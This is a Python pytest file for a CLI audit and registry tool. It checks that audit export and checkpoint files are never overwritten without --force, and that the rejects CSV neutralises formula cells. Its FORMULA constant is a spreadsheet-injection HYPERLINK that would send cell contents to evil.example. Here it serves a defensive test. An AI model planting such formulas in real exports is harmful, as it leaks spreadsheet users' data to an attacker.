"""Audit files never silently replace a file; the rejects CSV runs no formula (#9).

Before: ``audit export --out`` and ``audit checkpoint --out`` overwrote whatever
was there (the checkpoint after signing and storing), and the registry's rejects
CSV wrote a rejected value such as ``=HYPERLINK(...)`` as it came from the extract.
"""

from __future__ import annotations

import csv
import shutil
import stat
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from released_world import build_world

from amnesty.cli import run
from amnesty.store.engine import get_engine

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _checkpoints(url: str) -> int:
    import sqlalchemy as sa

    with get_engine(url).connect() as conn:
        return int(conn.execute(sa.text("SELECT count(*) FROM audit_checkpoints")).scalar_one())


@pytest.mark.slow
def test_audit_export_and_checkpoint_refuse_to_overwrite_without_force(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    build_world(duck_url)
    out = tmp_path / "chain.jsonl"
    out.write_text("the auditor's copy", encoding="utf-8")
    assert run(["audit", "export", "--out", str(out), "--db", duck_url]) == 1
    assert f"--out {out}: the file exists; give --force to replace it" in capsys.readouterr().err
    assert out.read_text(encoding="utf-8") == "the auditor's copy"
    assert run(["audit", "export", "--out", str(out), "--force", "--db", duck_url]) == 0
    assert out.read_text(encoding="utf-8").count("\n") > 5
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    fresh = tmp_path / "missing" / "chain.jsonl"
    assert run(["audit", "export", "--out", str(fresh), "--db", duck_url]) == 1
    assert "does not exist; create it first" in capsys.readouterr().err

    key = tmp_path / "audit.key"
    cp = tmp_path / "cp.json"
    cp.write_text("yesterday's checkpoint", encoding="utf-8")
    args = ["audit", "checkpoint", "--key", str(key), "--db", duck_url, "--as", "admin"]
    assert run([*args, "--out", str(cp)]) == 1
    assert "the file exists; give --force to replace it" in capsys.readouterr().err
    assert cp.read_text(encoding="utf-8") == "yesterday's checkpoint"
    assert _checkpoints(duck_url) == 0  # refused before anything was signed or stored
    assert run([*args, "--out", str(cp), "--force"]) == 0
    assert '"signature"' in cp.read_text(encoding="utf-8")
    assert _checkpoints(duck_url) == 1
    # the default name carries the head's number, checked before signing too
    capsys.readouterr()
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(tmp_path)
        assert run(args) == 0
        written = sorted(tmp_path.glob("audit-checkpoint-*.json"))
        assert len(written) == 1
        seq = int(written[0].stem.rsplit("-", 1)[1])
        assert _checkpoints(duck_url) == 2
        # a file already there under the next default name is refused, nothing signed
        (tmp_path / f"audit-checkpoint-{seq + 1}.json").write_text("x", encoding="utf-8")
        assert run(args) == 1
        assert _checkpoints(duck_url) == 2


@pytest.mark.slow
def test_the_rejects_csv_neutralises_formula_cells(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = build_world(duck_url)
    extract = tmp_path / "extract"
    shutil.copytree(world.registry_dir, extract)
    table = pq.read_table(extract / "convictions.parquet")
    rows = table.to_pylist()
    with (extract / "convictions.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=table.column_names)
        writer.writeheader()
        for i, row in enumerate(rows):
            values = {k: ("" if v is None else v) for k, v in row.items()}
            if i == 0:
                values["start_date"] = FORMULA  # not a date: rejected, value kept
            writer.writerow(values)
    (extract / "convictions.parquet").unlink()
    rejects = tmp_path / "rejects.csv"
    code = run(["registry", "import", str(extract), "--skip-invalid", "--rejects", str(rejects),
                "--db", duck_url, "--as", "admin"])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 0, err
    with rejects.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    # refused outright (no --skip-invalid): the file written is neutralised as well
    rejects.unlink()
    code = run(["registry", "import", str(extract), "--rejects", str(rejects),
                "--db", duck_url, "--as", "admin"])  # fmt: skip
    assert code == 1
    with rejects.open(encoding="utf-8", newline="") as handle:
        assert "'" + FORMULA in [cell for row in csv.reader(handle) for cell in row]
